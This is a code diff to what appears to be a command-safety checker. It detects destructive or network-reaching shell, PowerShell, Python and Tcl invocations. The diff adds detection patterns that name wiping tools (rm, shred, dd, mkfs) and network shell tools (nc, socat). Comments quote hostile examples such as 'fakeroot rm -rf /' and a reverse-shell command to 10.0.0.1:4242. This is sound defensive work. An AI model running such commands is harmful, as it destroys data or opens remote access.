@@ -1,4 +1,5 @@
 import { escapes, FETCHED, isKnown, squeezed, UNKNOWN } from "../words.ts";
+import { DATA } from "./access.ts";
 import { type Call, each, type Judges, Options, rules } from "./rule.ts";
 import { shellRules } from "./shell.ts";
 
@@ -33,9 +34,14 @@ const interpreter =
 		if (texts.length > 0) return;
 		const file = programOf(options.operands);
 		if (file === undefined || file === "-" || file === "/dev/stdin") {
-			if (call.stdin === null || options.has("--version", "--help", "-V", "-v", "-h")) return;
+			if ((call.stdin === null && !options.has("-m")) || options.has("--version", "--help", "-V", "-v", "-h")) return;
 			// A module reads its input as what it is about; these read it as a program.
 			const module = language === "python" ? options.value("-m") : undefined;
+			for (const path of module === undefined ? [] : [`${module.replaceAll(".", "/")}.py`, `${module}/__main__.py`]) {
+				const content = call.file(path);
+				if (content !== undefined) return void call.code(language, content);
+			}
+			if (call.stdin === null) return;
 			if (module !== undefined && !/^(code|pdb|IPython|bpython|ptpython|idlelib|asyncio|runpy|cProfile|profile|trace)(\.|$)/.test(module))
 				return;
 			if (call.stdin.includes(FETCHED)) call.runsFetched();
@@ -237,6 +243,19 @@ export const languageJudges: Judges = [
 				...call.args.flatMap((arg, at) => (/^(-eval|-exec|-command|-Command|-s)$/.test(arg) ? [call.args[at + 1] ?? ""] : [])),
 			];
 			for (const text of texts) call.code(call.name, text);
+			// Its own names for what every shell does.
+			if (/^(pwsh|powershell)$/.test(call.name))
+				for (const text of texts)
+					call.maybe(
+						text
+							.replace(/\b(Remove-Item|del|rd|ri|erase)\b/gi, "rm")
+							.replace(/\b(Get-Content|gc)\b/gi, "cat")
+							.replace(/\b(Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/gi, "curl")
+							.replace(/\s-Recurse\b/gi, " -r")
+							.replace(/\s-Force\b/gi, " -f")
+							.replace(/\s-(Path|LiteralPath)\b/gi, ""),
+						call.name,
+					);
 			if (/^(pwsh|powershell)$/.test(call.name) && call.args.some((arg) => /^-(e|en|enc|enco.{0,10})$/i.test(arg)))
 				call.hit(shellRules["unresolved-script"]);
 			if (options.operands[0] === "eval") call.code(call.name, options.operands.slice(1).join(" "));
@@ -330,6 +349,7 @@ export const languageJudges: Judges = [
 
 /** Tcl's commands are `exec` and `spawn`. */
 function tcl(call: Call, text: string): void {
+	for (const [, path] of text.matchAll(/\bfile\s{1,4}delete\s{1,4}(?:-force\s{1,4})?(?:--\s{1,4})?["{]?([~/.][^\s"}\];]{0,512})/g)) call.deletes(path ?? "", true);
 	for (const match of text.matchAll(
 		/(?:^|[;\n[{]|\s)(?:exec|spawn|system|open\s{1,4}"?\|)\s{0,4}(?:-\w{1,16}\s{1,4}){0,2}([^;\n\]}]{1,2048})/g,
 	)) {
@@ -354,12 +374,21 @@ export function judgeShellWords(call: Call, known: boolean): void {
 		if (arg.length <= 4096) startedBy(call, arg, args[at + 1] ?? "", known);
 	});
 	if (call.stdin !== null && /syscmd\(/.test(call.stdin)) startedBy(call, call.stdin, "", known);
+	// Whatever it is, it may be there to run the rest: `fakeroot rm -rf /`.
+	if (!known && !DATA.has(name) && !READS_FILES.test(name)) {
+		const at = args.slice(0, 12).findIndex((arg) => OFTEN_RUN.test(arg));
+		if (at >= 0 && at + 1 < args.length && !/^(install|add|remove|help|info|search|show|list|-S|-Q\w?|which|explain)$/.test(args[at - 1] ?? "") && call.via.length < 8)
+			call.perhaps(args.slice(at));
+	}
 	// A tunnel back, whatever its program is called.
 	if (args.some((arg) => /^R:(socks|\d{1,5}(:|$))/.test(arg))) call.hit(shellRules["shell-to-network"]);
 	// `rcat connect -s bash 10.0.0.1 4242`
 	if (args.some((arg) => PLAIN_SHELL.test(arg)) && args.some((arg) => /^(tcp:\/\/)?(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$/.test(arg)))
 		call.hit(shellRules["shell-to-network"]);
 }
+/** Programs by whose names a wrapper's command is found. */
+const OFTEN_RUN =
+	/^((\/usr)?\/s?bin\/)?(rm|shred|dd|mkfs(\.\w{1,8})?|wipefs|chmod|chown|mv|cp|cat|tee|truncate|curl|wget|nc|ncat|socat|telnet|bash|sh|zsh|dash|python3?|perl|ruby|node|php|find|sudo|su|env|nohup|xargs|kill|pkill|killall|reboot|shutdown|poweroff|useradd|usermod|userdel|passwd|chpasswd|crontab|systemctl|iptables|insmod|modprobe|mount|tar|scp|ssh|sed|awk)$/;
 const PLAIN_SHELL = /^(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh$|^(cmd|powershell)(\.exe)?$/;
 
 /** What an argument may have a program start. */
